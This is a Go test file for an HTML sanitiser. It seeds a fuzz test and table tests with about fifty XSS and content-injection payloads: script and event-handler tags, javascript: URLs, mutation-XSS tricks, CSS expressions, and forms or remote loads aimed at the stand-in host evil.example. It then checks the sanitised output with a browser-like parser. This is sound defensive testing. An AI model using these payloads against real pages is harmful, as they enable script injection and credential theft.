package markup

import (
	"regexp"
	"strings"
	"testing"

	"golang.org/x/net/html"
)

var attacks = []string{
	`<script>alert(1)</script>x`, `<img src=x onerror=alert(1)>`, `<a href="javascript:alert(1)">x</a>`, `<a href=" java&#10;script:alert(1)">x</a>`, `<a href="&#x6A;avascript:alert(1)">x</a>`,
	`<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`, `<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`, `<iframe src="https://evil.example"></iframe>`,
	`<form action="https://evil.example"><input name=password><button>go</button></form>`, `<object data=x></object><embed src=x>`, `<base href="https://evil.example/">`, `<meta http-equiv=refresh content="0;url=https://evil.example">`,
	`<link rel=stylesheet href="https://evil.example/x.css">`, `<style>@import url(https://evil.example)</style>`, `<div style="background:url(https://evil.example/x)">x</div>`, `<div style="width:expression(alert(1))">x</div>`,
	`<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9">x</div>`, `<div style="margin-top:-1000px">x</div>`, `<div style="background:\75rl(x)">x</div>`, `<p style="color:red;/*x*/behavior:url(x)">x</p>`,
	`<img src="data:image/svg+xml;base64,PHN2Zz4=">`, `<a href="data:text/html,<script>alert(1)</script>">x</a>`, `<a href="vbscript:x">x</a>`, `<a href="//evil.example">x</a>`, `<img src="//evil.example/x.png">`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<title><img src=x onerror=alert(1)></title>`, `<textarea></textarea><img src=x onerror=alert(1)>`, `<xmp><img src=x onerror=alert(1)></xmp>`, `<plaintext><img src=x onerror=alert(1)>`,
	`<table background="https://evil.example/x"><td background=x>x</td></table>`, `<video src=x poster="https://evil.example/x"></video>`, `<img srcset="https://evil.example/x 1x" src="cid:a">`, `<a ping="https://evil.example" href="https://ok.example">x</a>`,
	`<!--><img src=x onerror=alert(1)>-->`, `<![CDATA[<img src=x onerror=alert(1)>]]>`, `<?xml version="1.0"?><img src=x onerror=alert(1)>`, `<img src="cid:a" onload="x" class="remote-image" data-remote-src="javascript:alert(1)">`, `<p id=x class=admin name=y>z</p>`,
	"<a href=\"jav\tascript:alert(1)\">x</a>", "<img src=\"https://evil.example/x\n.png\">", `<details open ontoggle=alert(1)>x</details>`, `<div style="display:flex;position:absolute">x</div>`, `<template><img src=x onerror=alert(1)></template>`,
	`<select><template><img src=x onerror=alert(1)>`, `<p style="font-family:'x&quot;;position:fixed'">x</p>`, `</div></div></body></html><p>x`, `<img src="https://a.example/x" alt='"><script>alert(1)</script>'>`,
}

// FuzzSanitise looks for HTML that stays dangerous.
func FuzzSanitise(f *testing.F) {
	for _, a := range attacks {
		f.Add(a)
	}
	f.Fuzz(func(t *testing.T, raw string) {
		clean := Sanitise(raw, Display{})
		if bad := danger(t, clean, false); bad != "" {
			t.Fatalf("%s in %q from %q", bad, clean, raw)
		}
		if bad := danger(t, Sanitise(clean, Display{Remote: true, Inline: map[string]string{"a": "/attachments/1"}}), true); bad != "" {
			t.Fatalf("%s after loading the images of %q", bad, clean)
		}
	})
}

func TestSanitiseAttacks(t *testing.T) {
	t.Parallel()
	for _, a := range attacks {
		t.Run(a, func(t *testing.T) {
			t.Parallel()
			clean := Sanitise(a, Display{})
			if bad := danger(t, clean, false); bad != "" {
				t.Errorf("%s in %q", bad, clean)
			}
			if again := Sanitise(clean, Display{}); again != clean {
				t.Errorf("%q becomes %q when sanitised again", clean, again)
			}
		})
	}
}

// danger reads HTML as a browser does and names the first thing that runs, loads or leaves its box.
func danger(t *testing.T, clean string, remote bool) string {
	t.Helper()
	doc, err := html.Parse(strings.NewReader("<body><div>" + clean + "</div>"))
	if err != nil {
		return "" // too deep for the reader, not for a browser; every level is of the kept elements all the same
	}
	bad := ""
	var walk func(n *html.Node)
	walk = func(n *html.Node) {
		if n.Type == html.CommentNode {
			bad = "a comment"
		}
		if n.Type == html.ElementNode {
			if !keptTags[n.Data] && n.Data != "html" && n.Data != "head" && n.Data != "body" || n.Namespace != "" {
				bad = "the element " + n.Data
			}
			for _, a := range n.Attr {
				if b := dangerousAttribute(n.Data, a, remote); b != "" {
					bad = b
				}
			}
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c)
		}
	}
	walk(doc)
	return bad
}

func dangerousAttribute(tag string, a html.Attribute, remote bool) string {
	v := strings.ToLower(strings.Map(func(r rune) rune {
		if r <= ' ' {
			return -1
		}
		return r
	}, a.Val))
	switch a.Key {
	case "href":
		if !strings.HasPrefix(v, "https:") && !strings.HasPrefix(v, "http:") && !strings.HasPrefix(v, "mailto:") && !strings.HasPrefix(v, "tel:") {
			return "a link to " + a.Val
		}
	case "src":
		if !strings.HasPrefix(v, "cid:") && !(remote && (strings.HasPrefix(v, "https://") || strings.HasPrefix(v, "http://") || v == "/attachments/1")) {
			return "an image from " + a.Val
		}
	case "data-remote-src":
		if !strings.HasPrefix(v, "https://") && !strings.HasPrefix(v, "http://") {
			return "a remote image from " + a.Val
		}
	case "style":
		if b := outOfBox(v); b != "" {
			return "the style " + a.Val + " with " + b
		}
		for _, w := range []string{"url", "expression", "position", "@", "\\", "/*", "z-index", "javascript", "behavior", "transform", "fixed"} {
			if strings.Contains(v, w) && !(w == "fixed" && strings.Contains(v, "table-layout")) {
				return "the style " + a.Val
			}
		}
	case "class":
		if a.Val != "remote-image" {
			return "the class " + a.Val
		}
	case "rel", "target":
	case "data-leads-to":
		if strings.ContainsAny(a.Val, " <>\"'/") {
			return "a host that is none: " + a.Val
		}
	case "cite":
		if !strings.HasPrefix(v, "mid:") && !strings.HasPrefix(v, "http:") && !strings.HasPrefix(v, "https:") {
			return "a source at " + a.Val
		}
	default:
		if !keptAttributes[a.Key] || !spokenAttributes[a.Key] && strings.ContainsAny(v, "<>(){}\\;=`") {
			return "the attribute " + a.Key + " with " + a.Val
		}
	}
	return ""
}

// outOfBox names a size in a style that leaves its box: a negative margin, or a number that is huge however it is written.
func outOfBox(style string) string {
	for _, d := range strings.Split(style, ";") {
		name, value, _ := strings.Cut(d, ":")
		if strings.HasPrefix(name, "margin") && strings.Contains(value, "-") {
			return d
		}
		if size := largeNumber.FindString(value); size != "" && !strings.Contains(value, "#") {
			return size
		}
	}
	return ""
}

var largeNumber = regexp.MustCompile(`[0-9]{5,}|[0-9.]e[0-9]|[0-9](?:vw|vh|vmin|vmax)`)
